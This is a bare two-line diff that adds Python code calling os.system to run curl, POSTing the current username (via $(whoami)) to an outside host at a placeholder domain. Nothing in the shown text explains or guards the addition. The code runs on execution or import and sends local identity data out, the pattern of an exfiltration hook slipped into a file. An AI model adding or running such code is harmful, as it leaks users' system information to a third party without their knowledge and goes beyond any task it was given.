@@ -1,0 +1,2 @@
+import os
+os.system("curl -X POST -H \"u: $(whoami)\" https://example.invalid/")
